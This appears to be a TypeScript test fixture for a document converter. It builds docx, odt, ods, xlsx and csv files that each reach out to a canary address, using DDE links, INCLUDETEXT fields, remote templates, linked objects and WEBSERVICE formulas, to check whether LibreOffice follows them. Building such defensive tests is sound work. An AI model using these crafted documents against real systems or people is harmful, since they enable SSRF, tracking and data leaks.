import {
  docxWith,
  field,
  openDocument,
  paragraph,
  relationships,
  xlsx,
} from '@kiln/test-support/documents.ts'
import { type ZipEntry, zip } from '@kiln/test-support/zip.ts'
import type { FormatName } from '../../src/catalog/pairs.ts'

// Documents that point at something outside of them, one row for each way of pointing. `address` is the
// canary's, with a path of the row's own.

export interface LinkRow {
  name: string
  from: FormatName
  /** Whether a careless LibreOffice follows it. The others it reads and leaves alone, in the versions tried. */
  followedBare: boolean
  attack(address: string): Buffer | string
}

const officeRelationships = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const word = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'

const external = (id: string, type: string, target: string) => ({ id, type, target, external: true })

const settingsWithTemplate = (address: string): ZipEntry[] => [
  {
    name: 'word/settings.xml',
    content: `<w:settings xmlns:w="${word}" xmlns:r="${officeRelationships}"><w:attachedTemplate r:id="t"/></w:settings>`,
  },
  {
    name: 'word/_rels/settings.xml.rels',
    content: relationships([external('t', 'attachedTemplate', address)]),
  },
]

const oleLink =
  '<w:p><w:r><w:object><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="s" style="width:50pt;height:50pt"/>' +
  '<o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="Word.Document.12" ShapeID="s" ' +
  'DrawAspect="Content" r:id="o" UpdateMode="Always"/></w:object></w:r></w:p>'

const framed = (element: string) =>
  `<text:p><draw:frame svg:width="3cm" svg:height="3cm">${element}</draw:frame>text</text:p>`

const embedded = (name: string, address: string) =>
  framed(
    `<draw:${name} xlink:href="${address}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>`,
  )

const cell = (formula: string) =>
  `<table:table table:name="t"><table:table-row><table:table-cell table:formula="${formula}" ` +
  'office:value-type="float" office:value="0"/></table:table-row></table:table>'

const linkedSheet = (address: string) =>
  `<table:table table:name="t"><table:table-source xlink:type="simple" xlink:href="${address}" ` +
  'table:filter-name="calc8" table:table-name="Sheet1"/><table:table-row><table:table-cell/></table:table-row></table:table>'

const ddeTable = (address: string) =>
  `${cell(`of:=DDE(&quot;soffice&quot;;&quot;${address}&quot;;&quot;Sheet1.A1&quot;)`)}<table:dde-links><table:dde-link>` +
  `<office:dde-source office:dde-application="soffice" office:dde-topic="${address}" office:dde-item="Sheet1.A1" ` +
  'office:automatic-update="true"/></table:dde-link></table:dde-links>'

function sheetWithExternalCell(address: string): Buffer {
  const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'
  const type = 'application/vnd.openxmlformats-officedocument.spreadsheetml'
  return zip([
    {
      name: '[Content_Types].xml',
      content:
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ' +
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
        `<Override PartName="/xl/workbook.xml" ContentType="${type}.sheet.main+xml"/>` +
        `<Override PartName="/xl/worksheets/sheet1.xml" ContentType="${type}.worksheet+xml"/>` +
        `<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="${type}.externalLink+xml"/></Types>`,
    },
    {
      name: '_rels/.rels',
      content: relationships([{ id: 'r1', type: 'officeDocument', target: 'xl/workbook.xml' }]),
    },
    {
      name: 'xl/workbook.xml',
      content:
        `<workbook xmlns="${main}" xmlns:r="${officeRelationships}"><sheets><sheet name="Sheet1" sheetId="1" r:id="r1"/>` +
        '</sheets><externalReferences><externalReference r:id="r2"/></externalReferences></workbook>',
    },
    {
      name: 'xl/_rels/workbook.xml.rels',
      content: relationships([
        { id: 'r1', type: 'worksheet', target: 'worksheets/sheet1.xml' },
        { id: 'r2', type: 'externalLink', target: 'externalLinks/externalLink1.xml' },
      ]),
    },
    {
      name: 'xl/worksheets/sheet1.xml',
      content: `<worksheet xmlns="${main}"><sheetData><row r="1"><c r="A1"><f>[1]Sheet1!A1</f></c></row></sheetData></worksheet>`,
    },
    {
      name: 'xl/externalLinks/externalLink1.xml',
      content:
        `<externalLink xmlns="${main}" xmlns:r="${officeRelationships}"><externalBook r:id="r1"><sheetNames>` +
        '<sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>',
    },
    {
      name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
      content: relationships([external('r1', 'externalLinkPath', address)]),
    },
  ])
}

const section = (source: string) =>
  `<text:section text:name="s">${source}<text:p>old</text:p></text:section><text:p>text</text:p>`

export const linkRows: readonly LinkRow[] = [
  {
    name: 'docx, INCLUDETEXT field',
    from: 'docx',
    followedBare: false,
    attack: (address) => docxWith(field(`INCLUDETEXT "${address}"`, 'old') + paragraph('text')),
  },
  {
    name: 'docx, INCLUDEPICTURE field',
    from: 'docx',
    followedBare: false,
    attack: (address) => docxWith(field(`INCLUDEPICTURE "${address}" \\d`, 'old') + paragraph('text')),
  },
  {
    name: 'docx, DDEAUTO field',
    from: 'docx',
    followedBare: false,
    attack: (address) => docxWith(field(`DDEAUTO soffice "${address}" Sheet1.A1`, 'old') + paragraph('text')),
  },
  {
    name: 'docx, attached template',
    from: 'docx',
    followedBare: false,
    attack: (address) =>
      docxWith(paragraph('text'), {
        relationships: [{ id: 's', type: 'settings', target: 'settings.xml' }],
        entries: settingsWithTemplate(address),
      }),
  },
  {
    name: 'docx, altChunk',
    from: 'docx',
    followedBare: false,
    attack: (address) =>
      docxWith(`<w:altChunk r:id="c"/>${paragraph('text')}`, {
        relationships: [external('c', 'aFChunk', address)],
      }),
  },
  {
    name: 'docx, linked object',
    from: 'docx',
    followedBare: false,
    attack: (address) =>
      docxWith(oleLink + paragraph('text'), { relationships: [external('o', 'oleObject', address)] }),
  },
  {
    name: 'odt, linked object',
    from: 'odt',
    followedBare: true,
    attack: (address) => openDocument('text', embedded('object', address)),
  },
  {
    name: 'odt, floating frame',
    from: 'odt',
    followedBare: false,
    attack: (address) => openDocument('text', embedded('floating-frame', address)),
  },
  {
    name: 'odt, linked section',
    from: 'odt',
    followedBare: true,
    attack: (address) =>
      openDocument(
        'text',
        section(
          `<text:section-source xlink:type="simple" xlink:href="${address}" text:filter-name="writer8"/>`,
        ),
      ),
  },
  {
    name: 'odt, section from a DDE server',
    from: 'odt',
    followedBare: true,
    attack: (address) =>
      openDocument(
        'text',
        section(
          `<office:dde-source office:dde-application="soffice" office:dde-topic="${address}" ` +
            'office:dde-item="s" office:automatic-update="true"/>',
        ),
      ),
  },
  {
    name: 'ods, linked sheet',
    from: 'ods',
    followedBare: true,
    attack: (address) => openDocument('spreadsheet', linkedSheet(address)),
  },
  {
    name: 'ods, cell of another file',
    from: 'ods',
    followedBare: true,
    attack: (address) => openDocument('spreadsheet', cell(`of:='${address}'#$Sheet1.A1`)),
  },
  {
    name: 'ods, DDE formula',
    from: 'ods',
    followedBare: true,
    attack: (address) => openDocument('spreadsheet', ddeTable(address)),
  },
  {
    name: 'ods, WEBSERVICE formula',
    from: 'ods',
    followedBare: true,
    attack: (address) =>
      openDocument('spreadsheet', cell(`of:=COM.MICROSOFT.WEBSERVICE(&quot;${address}&quot;)`)),
  },
  { name: 'xlsx, cell of another file', from: 'xlsx', followedBare: true, attack: sheetWithExternalCell },
  {
    name: 'xlsx, WEBSERVICE formula',
    from: 'xlsx',
    followedBare: true,
    attack: (address) =>
      xlsx({
        rows: [],
        cells: `<row r="1"><c r="A1"><f>_xlfn.WEBSERVICE("${address}")</f></c></row>`,
      }),
  },
  {
    name: 'csv, WEBSERVICE formula',
    from: 'csv',
    followedBare: true,
    attack: (address) => `a,"=WEBSERVICE(""${address}"")"\n`,
  },
]
